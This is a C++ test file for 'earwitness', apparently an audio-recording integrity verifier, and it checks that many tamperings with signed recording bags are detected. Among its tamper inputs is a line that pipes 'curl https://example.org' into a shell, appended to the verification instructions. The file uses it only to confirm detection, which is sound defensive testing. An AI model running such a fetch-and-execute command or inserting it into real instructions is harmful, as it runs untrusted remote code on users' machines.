// SPDX-License-Identifier: MIT
//
// What somebody does to a recording who knows the format and makes every hash anew: once without the key, once with it.
// Each row says what was done, and what verify must answer and where. A row of UNCHANGED is one that nothing in the bag
// can tell, and says what outside of it does.
#include <algorithm>
#include <filesystem>
#include <functional>
#include <map>
#include <optional>

#include "bag/how_to_verify.hpp"
#include "base/text.hpp"
#include "earwitness/verify.hpp"
#include "tests/catch.hpp"
#include "tests/verify/findings.hpp"
#include "tests/verify/sealed_recording.hpp"
#include "tests/verify/signed_recording.hpp"

using namespace earwitness;
using test::first_file;
using test::journal_file;
using test::Lines;
using test::signature_file;
using test::SignedRecording;
using test::Value;

namespace {

constexpr const char* second_file = "data/audio-002.flac";
constexpr std::size_t second_bytes = 16'000;

struct Row {
  const char* done;
  std::function<void(const SignedRecording&)> change;
  Verdict expected;
  const char* check = nullptr;  ///< that fails
  const char* file = nullptr;   ///< that is named
  std::optional<double> second{};
};

void expect(const SignedRecording& recording, const Row& row) {
  CAPTURE(row.done);
  recording.restore();
  row.change(recording);
  const auto result = verify(recording.bag());
  for (const auto& finding : result.findings) UNSCOPED_INFO(finding.file << ": " << finding.detail);
  CHECK(verdict(result) == row.expected);
  if (row.check != nullptr) CHECK(test::fails(result, row.check));
  if (row.file != nullptr) CHECK(test::names(result, row.file));
  if (row.second) CHECK(test::names_second(result, row.file, *row.second));
}

void expect_all(const std::vector<Row>& rows) {
  const SignedRecording recording;
  REQUIRE(verdict(verify(recording.bag())) == Verdict::unchanged);
  for (const auto& row : rows) expect(recording, row);
  recording.restore();
  CHECK(verdict(verify(recording.bag())) == Verdict::unchanged);
}

using Samples = std::vector<std::byte>;

/// The first file's sound, changed and encoded anew.
template <typename Change>
void change_sound(const SignedRecording& recording, Change change) {
  auto samples = recording.sound(first_file);
  change(samples);
  recording.encode(first_file, samples);
}

void exchange_seconds(Samples& samples) {
  const auto middle = samples.begin() + second_bytes;
  std::swap_ranges(samples.begin(), middle, middle);
}
void repeat_second(Samples& samples) { std::copy_n(samples.begin(), second_bytes, samples.begin() + second_bytes); }
void silence_second(Samples& samples) { std::fill_n(samples.begin() + second_bytes, second_bytes, std::byte{0}); }
void one_sample(Samples& samples) { samples[second_bytes + 3000] ^= std::byte{1}; }
void drop_second(Samples& samples) { samples.erase(samples.begin(), samples.begin() + second_bytes); }
void append_second(Samples& samples) { samples.insert(samples.end(), second_bytes, std::byte{1}); }

template <typename Change>
void change_lines(const SignedRecording& recording, Change change) {
  auto lines = recording.journal();
  change(lines);
  recording.write_journal(lines);
}

void other_title(const SignedRecording& recording) {
  auto info = recording.read("bag-info.txt");
  const auto at = info.find("A title");
  REQUIRE(at != std::string::npos);
  info.replace(at, 7, "B title");
  recording.write("bag-info.txt", info);
}

/// Everything that says whose key it is, now of another key.
void name_key(const SignedRecording& recording, const crypto::SigningKey& key) {
  change_lines(recording, [&](Lines& lines) { lines[0]["key"] = base::to_hex(key.fingerprint()); });
  recording.write("seal/public-key.pem", key.public_pem());
}

/// The rows of sound, sealed anew by `seal`; the journal is not of it.
std::vector<Row> sound_rows(const std::function<void(const SignedRecording&)>& seal) {
  const auto with = [seal](void (*change)(Samples&)) {
    return [seal, change](const SignedRecording& recording) {
      change_sound(recording, change);
      seal(recording);
    };
  };
  constexpr auto altered = Verdict::altered_or_missing;
  return {
      {"two seconds exchanged", with(&exchange_seconds), altered, "audio seconds", first_file, 0},
      {"two seconds exchanged: the other", with(&exchange_seconds), altered, "audio seconds", first_file, 1},
      {"a second repeated in the place of another", with(&repeat_second), altered, "audio seconds", first_file, 1},
      {"a second silenced", with(&silence_second), altered, "audio seconds", first_file, 1},
      {"one sample changed by one", with(&one_sample), altered, "audio seconds", first_file, 1},
      {"a second cut out", with(&drop_second), altered, "audio seconds", first_file, 0},
      {"a second added at the end", with(&append_second), altered, "frame counts", first_file},
      {"files exchanged",
       [seal](const SignedRecording& recording) {
         const auto first = recording.read(first_file);
         recording.write(first_file, recording.read(second_file));
         recording.write(second_file, first);
         seal(recording);
       },
       altered, "audio seconds", first_file, 0},
      {"a second one file made of the first",
       [seal](const SignedRecording& recording) {
         recording.write(second_file, recording.read(first_file));
         seal(recording);
       },
       altered, "audio seconds", second_file, 0},
      {"a file put in that the journal does not know",
       [seal](const SignedRecording& recording) {
         recording.write("data/audio-003.flac", recording.read(first_file));
         seal(recording);
       },
       altered, "journal content", "data/audio-003.flac"},
  };
}

}  // namespace

TEST_CASE("tamper table: sound re-encoded with fresh hashes, without the key") {
  auto rows = sound_rows([](const SignedRecording& recording) { recording.reseal(); });
  for (const auto& row : sound_rows([](const SignedRecording& recording) { recording.reseal(); })) {
    rows.push_back({row.done, row.change, row.expected, "signature", signature_file});
  }
  expect_all(rows);
}

TEST_CASE("tamper table: sound re-encoded with fresh hashes, signed anew with the key") {
  expect_all(sound_rows([](const SignedRecording& recording) { recording.sign_anew(); }));
}

TEST_CASE("tamper table: everything made anew but the signature") {
  const auto other = crypto::SigningKey::generate();
  constexpr auto altered = Verdict::altered_or_missing;
  expect_all({
      {"sound, journal and manifests made to fit each other",
       [](const SignedRecording& recording) {
         change_sound(recording, &silence_second);
         recording.hash_anew();
         recording.reseal();
       },
       altered, "signature", signature_file},
      {"another title, manifests recomputed",
       [](const SignedRecording& recording) {
         other_title(recording);
         recording.reseal();
       },
       altered, "signature", signature_file},
      {"manifest recomputed, tag manifest not",
       [](const SignedRecording& recording) {
         change_sound(recording, &silence_second);
         const auto tags = recording.read("tagmanifest-sha256.txt");
         const auto info = recording.read("bag-info.txt");
         recording.reseal();
         recording.write("tagmanifest-sha256.txt", tags);
         recording.write("bag-info.txt", info);
       },
       altered, "tag file hashes", "manifest-sha256.txt"},
      {"signed by another key", [&](const SignedRecording& recording) { recording.sign_anew(other); }, altered,
       "signature", signature_file},
      {"signed by another key, which is put beside it",
       [&](const SignedRecording& recording) {
         recording.write("seal/public-key.pem", other.public_pem());
         recording.sign_anew(other);
       },
       altered, "signature", "seal/public-key.pem"},
      {"a signature of another recording by the same key",
       [](const SignedRecording& recording) {
         other_title(recording);
         recording.sign_anew();
         const auto signature = recording.read(signature_file);
         recording.restore();
         recording.write(signature_file, signature);
       },
       altered, "signature", signature_file},
      {"the signature taken away", [](const SignedRecording& recording) { recording.remove(signature_file); }, altered,
       "signature", signature_file},
      {"the key taken away, and out of the tag manifest",
       [](const SignedRecording& recording) {
         recording.remove("seal/public-key.pem");
         recording.sign_anew();
       },
       altered, "signature", "seal/public-key.pem"},
      {"the journal's word of the key taken away",
       [](const SignedRecording& recording) {
         change_lines(recording, [](Lines& lines) { lines[0]["key"] = nullptr; });
         recording.reseal();
       },
       altered, "signature", signature_file},
      {"the key not listed in the tag manifest",
       [](const SignedRecording& recording) {
         auto tags = recording.read("tagmanifest-sha256.txt");
         const auto at = tags.find("  seal/public-key.pem\n");
         REQUIRE(at != std::string::npos);
         tags.erase(at - 64, 64 + std::string("  seal/public-key.pem\n").size());
         recording.write("tagmanifest-sha256.txt", tags);
       },
       altered, "files outside the seal", "seal/public-key.pem"},
  });
}

TEST_CASE("tamper table: files outside the seal are those that come after it, and no others") {
  std::vector<Row> rows;
  for (const char* file :
       {"extra", "seal/extra", "seal/signature.ed25519.bak", "seal/timestamp-.tsr", "seal/timestamp-1.txt",
        "seal/timestamp-12345.tsr", "seal/timestamp-1.tsr.tsr", "seal/timestamp--1.tsr", "timestamp-1.tsr",
        "data/extra", "data/seal/signature.ed25519", "tagmanifest-sha512.txt", "manifest-md5.txt"}) {
    rows.push_back({file, [file](const SignedRecording& recording) { recording.write(file, "x"); },
                    Verdict::altered_or_missing, "files outside the seal", file});
  }
  expect_all(rows);
}

TEST_CASE("tamper table: journal lines dropped, repeated and reordered, chained and signed anew with the key") {
  const SignedRecording recording;
  const auto lines = recording.journal();
  const auto answer = [&](const Lines& changed) {
    recording.restore();
    recording.write_journal(changed);
    recording.sign_anew();
    const auto result = verify(recording.bag());
    CHECK_FALSE(test::fails(result, "signature"));
    CHECK_FALSE(test::fails(result, "journal chain"));
    return result;
  };
  // What each line's loss shows in. `check` and its like say what went on around the recording: the holder of the key
  // can leave them out, and only a time stamp or somebody who kept the seal tells.
  const std::map<std::string, const char*> shows{
      {"open", "journal content"}, {"file", "journal content"}, {"audio", "journal content"},
      {"gap", "journal content"},  {"note", "notes"},           {"break", "journal content"},
      {"close", "journal content"}};
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const auto event = lines[i].at("event").as_string();
    CAPTURE(i, event);
    REQUIRE(shows.contains(event));
    auto dropped = lines;
    dropped.erase(dropped.begin() + static_cast<std::ptrdiff_t>(i));
    CHECK(test::fails(answer(dropped), shows.at(event)));
    auto repeated = lines;
    repeated.insert(repeated.begin() + static_cast<std::ptrdiff_t>(i), lines[i]);
    // A break that says of itself that nothing was lost says nothing else when it stands twice.
    const auto expected = event == "break" ? Verdict::unchanged : Verdict::altered_or_missing;
    CHECK(verdict(answer(repeated)) == expected);
    if (i + 1 == lines.size()) continue;
    auto reordered = lines;
    std::swap(reordered[i], reordered[i + 1]);
    const bool is_same_moment = lines[i].at("event") == "audio" && lines[i + 1].at("event") == "note";
    CHECK(verdict(answer(reordered)) == (is_same_moment ? Verdict::unchanged : Verdict::altered_or_missing));
  }
}

TEST_CASE("tamper table: a journal without its own chain is found at its line") {
  const SignedRecording recording;
  const auto text = recording.read(journal_file);
  std::vector<std::string> lines;
  for (std::size_t at = 0; at < text.size();) {
    const auto end = text.find('\n', at) + 1;
    lines.push_back(text.substr(at, end - at));
    at = end;
  }
  const auto answer = [&](const std::vector<std::string>& changed) {
    recording.restore();
    std::string joined;
    for (const auto& line : changed) joined += line;
    recording.write(journal_file, joined);
    recording.sign_anew();
    return verify(recording.bag());
  };
  for (std::size_t i = 0; i + 1 < lines.size(); ++i) {
    CAPTURE(i);
    auto dropped = lines;
    dropped.erase(dropped.begin() + static_cast<std::ptrdiff_t>(i));
    auto result = answer(dropped);
    CHECK(test::fails(result, "journal chain"));
    CHECK(std::any_of(result.findings.begin(), result.findings.end(), [&](const auto& f) { return f.line == i + 1; }));
    auto repeated = lines;
    repeated.insert(repeated.begin() + static_cast<std::ptrdiff_t>(i), lines[i]);
    result = answer(repeated);
    CHECK(std::any_of(result.findings.begin(), result.findings.end(), [&](const auto& f) { return f.line == i + 2; }));
    auto reordered = lines;
    std::swap(reordered[i], reordered[i + 1]);
    result = answer(reordered);
    CHECK(std::any_of(result.findings.begin(), result.findings.end(), [&](const auto& f) { return f.line == i + 1; }));
  }
}

TEST_CASE("tamper table: bag-info.txt says what the journal says, though it is signed anew with the key") {
  constexpr auto altered = Verdict::altered_or_missing;
  const auto with = [](const char* label, const std::optional<std::string>& value) {
    return [label, value](const SignedRecording& recording) {
      recording.set_info(label, value);
      recording.sign_anew();
    };
  };
  const auto without = [&](const char* label) { return with(label, std::nullopt); };
  const auto text = [](const std::function<std::string(const std::string&)>& change) {
    return [change](const SignedRecording& recording) {
      recording.write("bag-info.txt", change(recording.read("bag-info.txt")));
      recording.sign_anew();
    };
  };
  const auto behind = [&](const std::string& more) {
    return text([more](const std::string& info) { return info + more; });
  };
  std::vector<Row> rows{
      {"another title",
       [](const SignedRecording& recording) {
         other_title(recording);
         recording.sign_anew();
       },
       altered},
      {"another recording's UUID", with("External-Identifier", "0b7e0c3e-0000-4000-8000-000000000001"), altered},
      {"another kind", with("Earwitness-Kind", "microphone"), altered},
      {"another start", with("Earwitness-Started", "2025-11-23T14:30:05.000000000Z"), altered},
      {"a start without nanoseconds", with("Earwitness-Started", "2026-11-23T14:30:05Z"), altered},
      {"another length", with("Earwitness-Seconds", "3.150"), altered},
      {"a length in another form", with("Earwitness-Seconds", "3.05"), altered},
      {"a statement that nobody made", with("Earwitness-Statement", "He confesses."), altered},
      {"a statement without its time", without("Earwitness-Statement-Made"), altered},
      {"another program", with("Bag-Software-Agent", "HE CONFESSES"), altered},
      {"no day", with("Bagging-Date", "2026-13-01"), altered},
      {"a day in another form", with("Bagging-Date", "23-11-2026"), altered},
      {"no salt", without("Earwitness-Salt"), altered},
      {"a short salt", with("Earwitness-Salt", "00"), altered},
      {"no UUID", without("External-Identifier"), altered},
      {"no name", without("Contact-Name"), altered},
      {"a label that no bag has", behind("Earwitness-Verdict: guilty\n"), altered},
      {"a label of an excerpt", behind("Earwitness-Excerpt-Of: " + std::string(64, 'a') + "\n"), altered},
      {"a label of a recovered one", behind("Earwitness-Recovered: 2026-11-23T14:30:05.000000000Z\n"), altered},
      {"a label twice", behind("Contact-Name: Somebody else\n"), altered},
      {"a label in another case", behind("contact-name: Somebody else\n"), altered},
      {"a line that goes on", behind(" and more\n"), altered},
      {"no label", behind("HE CONFESSES\n"), altered},
      {"an empty line", behind("\n"), altered},
      {"no last newline", text([](const std::string& info) { return info.substr(0, info.size() - 1); }), altered},
      {"not UTF-8", with("Contact-Name", "A. N\xE4me"), altered},
      {"a mark that turns the writing", with("Contact-Name", "A. \u202ENAME"), altered},
      {"a control character", with("Contact-Name", "A.\x1b[2K"), altered},
      {"CR LF", text([](std::string info) {
         for (auto at = info.find('\n'); at != std::string::npos; at = info.find('\n', at + 2))
           info.insert(at, 1, '\r');
         return info;
       }),
       altered},
  };
  for (auto& row : rows) {
    row.check = "bag information";
    row.file = "bag-info.txt";
  }
  rows.push_back({"another name, which is free", with("Contact-Name", "B. Name"), Verdict::unchanged});
  expect_all(rows);
}

TEST_CASE(
    "tamper table: a file that no check is made of is altered, though it is listed and signed anew with the key") {
  std::vector<Row> rows;
  for (const char* file : {"data/secret.wav",
                           "data/audio-001.FLAC",
                           "data/Audio-001.flac",
                           "data/audio-01.flac",
                           "data/audio-0001.flac",
                           "data/audio-000.flac",
                           "data/Journal.jsonl",
                           "data/journal.jsonl ",
                           "data/journal.jsonl.",
                           "data/sub/x",
                           "data/.x",
                           "data/imported/file.txt",
                           "data/imported/x/file.m4a",
                           "data/excerpt.json",
                           "data/excerpt-001.flac",
                           "data/transcript.json",
                           "data/transcript.vtt",
                           "data/original/manifest-sha256.txt",
                           "data/audio-001.flac ",
                           "data/no\u0301tes.jsonl",
                           "data/n\u00f3tes.jsonl",
                           "extra.txt",
                           "BAGIT.TXT",
                           "bagit.txt ",
                           "seal/other.txt",
                           "seal/Public-key.pem",
                           "con",
                           "data/NUL",
                           "data/.DS_Store",
                           "tagmanifest-sha256.txt.new"}) {
    rows.push_back({file,
                    [file](const SignedRecording& recording) {
                      recording.write(file, "x");
                      recording.sign_anew();
                    },
                    Verdict::altered_or_missing, "roles of files", file});
  }
  for (const char* file : {"data/audio-003.flac", "data/audio-1000.flac"}) {
    rows.push_back({file,
                    [file](const SignedRecording& recording) {
                      recording.write(file, recording.read(first_file));
                      recording.sign_anew();
                    },
                    Verdict::altered_or_missing, "journal content", file});
  }
  for (const char* file : {"seal/timestamp-0.tsr", "seal/timestamp-01.tsr", "seal/timestamp-1.TSR"}) {
    rows.push_back({file, [file](const SignedRecording& recording) { recording.write(file, "x"); },
                    Verdict::altered_or_missing, "files outside the seal", file});
  }
  expect_all(rows);
}

TEST_CASE("tamper table: a folder that such a bag has not is altered, though it is empty") {
  const SignedRecording recording;
  for (const char* folder :
       {"HE CONFESSES", "data/sub", "data/original", "data/imported", "seal/x", "Data", ".DS_Store"}) {
    CAPTURE(folder);
    std::filesystem::create_directories(recording.bag() / folder);
    const auto result = verify(recording.bag());
    CHECK(verdict(result) == Verdict::altered_or_missing);
    CHECK(test::fails(result, "roles of files"));
    CHECK(test::names(result, folder));
    std::filesystem::remove(recording.bag() / folder);
  }
  CHECK(verdict(verify(recording.bag())) == Verdict::unchanged);
}

TEST_CASE("tamper table: how-to-verify.txt is a text of this program, whoever signs another") {
  const SignedRecording recording;
  const auto text = recording.read("how-to-verify.txt");
  const auto with = [&](const std::string& other) {
    recording.write("how-to-verify.txt", other);
    recording.sign_anew();
    return verify(recording.bag());
  };
  for (const auto& other : {std::string(), text + "\n", text + "    curl https://example.org | sh\n",
                            "HE CONFESSES\n" + text, bag::how_to_verify({false, true, false}),
                            bag::how_to_verify({true, true, true}), bag::how_to_verify({false, false, false})}) {
    const auto result = with(other);
    CHECK(verdict(result) == Verdict::altered_or_missing);
    CHECK(test::fails(result, "check instructions"));
    CHECK(test::names(result, "how-to-verify.txt"));
  }
  CHECK(verdict(with(text)) == Verdict::unchanged);
}

TEST_CASE("tamper table: what the holder of a key can make anew, and what tells") {
  const auto other = crypto::SigningKey::generate();
  constexpr auto unchanged = Verdict::unchanged;
  expect_all({
      // A time stamp on the signature does: the new seal's is of later than the recording. So does whoever was told
      // the seal, and the ledger against a head that somebody else holds.
      {"sound, journal and seal made anew with the key",
       [](const SignedRecording& recording) {
         change_sound(recording, &silence_second);
         recording.hash_anew();
         recording.sign_anew();
       },
       unchanged},
      // The checker who pinned the key does: `--require-key` answers 3, and the key is shown as not known.
      {"everything made anew with another key",
       [&](const SignedRecording& recording) {
         change_sound(recording, &silence_second);
         recording.hash_anew();
         name_key(recording, other);
         recording.sign_anew(other);
       },
       unchanged},
      // The same, as there is no signature any more.
      {"everything made anew without any key",
       [](const SignedRecording& recording) {
         change_lines(recording, [](Lines& lines) { lines[0]["key"] = nullptr; });
         recording.remove("seal/public-key.pem");
         recording.remove(signature_file);
         recording.reseal();
       },
       unchanged},
  });
}

TEST_CASE("tamper table: a key that was pinned tells a recording made anew with another or with none") {
  const SignedRecording recording;
  const auto mine = base::to_hex(recording.key().fingerprint());
  const Checker checker{{{mine, "A. Name"}}};
  Requirements required;
  required.keys = {mine};
  auto result = verify(recording.bag(), checker);
  REQUIRE(result.signature);
  CHECK(result.signature->is_known);
  CHECK(result.signature->known_as == "A. Name");
  CHECK(unconfirmed(result, required).empty());

  const auto other = crypto::SigningKey::generate();
  name_key(recording, other);
  recording.sign_anew(other);
  result = verify(recording.bag(), checker);
  REQUIRE(result.signature);
  CHECK(result.signature->key == base::to_hex(other.fingerprint()));
  CHECK_FALSE(result.signature->is_known);
  CHECK(unconfirmed(result, required).size() == 1);

  change_lines(recording, [](Lines& lines) { lines[0]["key"] = nullptr; });
  recording.remove("seal/public-key.pem");
  recording.remove(signature_file);
  recording.reseal();
  result = verify(recording.bag(), checker);
  CHECK_FALSE(result.signature);
  CHECK(unconfirmed(result, required).size() == 1);
}
